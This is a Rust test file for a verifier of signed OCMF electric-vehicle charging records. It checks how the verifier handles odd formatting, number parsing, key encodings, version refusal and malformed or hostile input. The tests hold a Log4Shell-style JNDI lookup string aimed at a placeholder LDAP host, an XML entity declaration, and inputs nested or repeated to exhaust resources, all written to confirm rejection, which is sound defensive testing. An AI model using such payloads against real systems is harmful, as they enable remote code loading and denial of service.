//! What real files do: each oddity is read as it is meant, or refused in words.

use super::sign::{P256, PAYLOAD, base64, hex};
use super::{broken, examined, key, signed};
use quanheng::ocmf::{Signed, Verdict, container};

fn valid(payload: &str) -> quanheng::ocmf::Examination {
    let examination = examined(P256.record(payload).as_bytes(), Some(&P256.key_text()));
    assert_eq!(signed(&examination, 0), Signed::Valid);
    examination
}

fn difference(payload: &str) -> String {
    valid(payload).reliable_import().unwrap_or_else(|why| panic!("{why:?}")).difference.to_string()
}

fn xml(record: &str, key: &str, attributes: &str) -> String {
    format!("<values><value><signedData>{record}</signedData><publicKey{attributes}>{key}</publicKey></value></values>")
}

#[test]
fn blanks_behind_colons_are_part_of_what_is_signed() {
    let spaced = PAYLOAD.replace("\":", "\": ");
    assert_eq!(difference(&spaced), "5.020");
    let record = P256.record(&spaced).replace("\": \"T7\"", "\":\"T7\"");
    assert_eq!(signed(&examined(record.as_bytes(), Some(&P256.key_text())), 0), Signed::Invalid);
}

#[test]
fn a_value_may_be_a_text_with_blanks_in_front_and_keeps_its_digits() {
    assert_eq!(difference(&PAYLOAD.replace("100.000", "\"   100.000\"").replace("105.020", "\"  105.020\"")), "5.020");
    let long = PAYLOAD.replace("100.000", "0.1000000000000000001").replace("105.020", "0.3000000000000000003");
    assert_eq!(difference(&long), "0.2000000000000000002");
    assert_eq!(difference(&PAYLOAD.replace("100.000", "-0.00")), "105.020");
}

#[test]
fn a_value_that_is_no_plain_number_gives_none() {
    for wrong in
        ["1e2", "\"1,5\"", "\"12 kWh\"", "\"\"", "\"1.2.3\"", "\"----\"", "\"100.000 \"", "123456789012345678901"]
    {
        let examination = valid(&PAYLOAD.replace("100.000", wrong));
        assert_eq!(broken(&examination), ["value-order"], "{wrong}");
        assert!(examination.charges[0].energy.is_empty() && examination.reliable_import().is_err());
    }
}

#[test]
fn a_byte_order_mark_and_line_ends_around_the_record_are_not_part_of_it() {
    let record = P256.record(PAYLOAD);
    for text in [format!("\u{feff}{record}"), format!("{record}\r\n"), format!("\r\n  {record}\r\n")] {
        assert_eq!(signed(&examined(text.as_bytes(), Some(&P256.key_text())), 0), Signed::Valid);
    }
    let inside =
        xml(&format!("\r\n    {record}\r\n  "), &hex(&P256.spki()), " encoding=\"hex\"").replace("><", ">\r\n<");
    for text in [inside.clone(), format!("\u{feff}<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n{inside}")] {
        let examination = examined(text.as_bytes(), None);
        assert_eq!(examination.verdict, Verdict::Valid, "{:?}", examination.records);
    }
    let wide: Vec<u8> = format!("\u{feff}{inside}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(examined(&wide, None).verdict, Verdict::Valid);
}

#[test]
fn the_key_of_a_container_may_be_in_groups_or_in_base64_without_saying_so() {
    let spki = P256.spki();
    let groups: Vec<String> = spki.chunks(2).map(hex).collect();
    for (text, attributes) in [
        (groups.join(" "), " encoding=\"hex\""),
        (groups.join(" "), ""),
        (base64(&spki), ""),
        (base64(&spki), " encoding=\"base64\""),
        (format!("\r\n{}\r\n", base64(&spki)), ""),
    ] {
        let examination = examined(xml(&P256.record(PAYLOAD), &text, attributes).as_bytes(), None);
        assert_eq!(examination.verdict, Verdict::Valid, "{text}");
    }
}

#[test]
fn seconds_in_another_register_are_no_energy_and_in_the_energy_register_no_unit() {
    let seconds = r#","EF":""},{"TM":"2026-03-15T09:00:00,000+0800 S","TX":"C","RV":0,"RI":"1-0:0.8.0","RU":"sec","ST":"G"},{"RI":"1-b:1.8.0","RU":"kWh","#;
    assert_eq!(difference(&PAYLOAD.replace(r#","EF":""},{"#, seconds)), "5.020");
    let examination = valid(&PAYLOAD.replace("\"kWh\"", "\"sec\""));
    assert!(broken(&examination).contains(&"state-and-unit-given"));
    assert!(examination.reliable_import().is_err());
}

#[test]
fn a_hostile_text_in_the_signature_is_only_a_text() {
    let record = format!("OCMF|{PAYLOAD}|{{\"SD\":\"${{jndi:ldap://example.invalid/a}}\"}}");
    let examination = examined(record.as_bytes(), Some(&P256.key_text()));
    assert_eq!((signed(&examination, 0), examination.verdict), (Signed::Invalid, Verdict::Failed));
}

#[test]
fn version_1_4_is_signed_and_yet_refused_with_the_reason() {
    let examination = valid(&PAYLOAD.replace("\"1.0\"", "\"1.4\""));
    assert_eq!(broken(&examination), ["version"]);
    let check = examination.charges[0].rules.iter().find(|check| check.rule == "version").unwrap();
    assert!(check.reason.en.contains("transparency software") && check.reason.zh.contains("透明软件"));
    for version in ["0.1", "0.4", "1.3"] {
        assert_eq!(broken(&valid(&PAYLOAD.replace("\"1.0\"", &format!("\"{version}\"")))), [""; 0]);
    }
    assert_eq!(broken(&valid(&PAYLOAD.replace("\"1.0\"", "\"2.0\""))), ["version"]);
}

#[test]
fn a_record_that_says_two_things_or_is_no_record_is_unreadable() {
    let twice = PAYLOAD.replace("\"RV\":105.020", "\"RV\":105.020,\"RV\":109.000");
    let examination = valid(&twice);
    assert!(examination.records[0].unreadable.is_some());
    assert_eq!(examination.verdict, Verdict::Unreadable);
    assert!(examination.reliable_import().is_err());
    for (payload, signature) in [("{}|{}", "{}"), ("[", "{\"SD\":\"00\"}"), ("{}", "[]"), ("{}", "{}")] {
        let examination = examined(format!("OCMF|{payload}|{signature}").as_bytes(), None);
        assert!(examination.records[0].unreadable.is_some(), "{payload} {signature}");
        assert_ne!(examination.verdict, Verdict::Valid);
    }
    for file in ["", "OCMF", "<a/>", "<values/>", "<values><value>", "{}", "\u{0}"] {
        assert!(container::read(file.as_bytes()).is_err(), "{file:?}");
    }
}

#[test]
fn a_container_of_another_format_or_with_entities_is_refused_in_words() {
    let other = xml(&P256.record(PAYLOAD), "", "").replace("<signedData>", "<signedData format=\"ALFEN\">");
    let examination = examined(other.as_bytes(), Some(&P256.key_text()));
    assert!(examination.records[0].unreadable.as_ref().unwrap().en.contains("ALFEN"));
    let bomb = format!("<!DOCTYPE values [<!ENTITY a \"aaaa\">]>{}", xml("&a;", "", ""));
    assert!(container::read(bomb.as_bytes()).is_err());
}

#[test]
fn many_readings_that_inherit_a_long_text_are_bounded() {
    let long = PAYLOAD.replace("\"G\"", &format!("\"{}\"", "G".repeat(5000)));
    assert!(examined(P256.record(&long).as_bytes(), None).records[0].unreadable.is_some());
    let many = PAYLOAD.replace("105.020}", &format!("105.020}}{}", ",{}".repeat(20_000)));
    assert!(examined(P256.record(&many).as_bytes(), None).records[0].unreadable.is_some());
    let deep = format!("OCMF|{}|{{\"SD\":\"00\"}}", "[".repeat(100_000));
    assert!(examined(deep.as_bytes(), Some(&key(""))).records[0].unreadable.is_some());
    let deep = format!("<values>{}", "<value>".repeat(100_000));
    assert!(container::read(deep.as_bytes()).is_err());
}
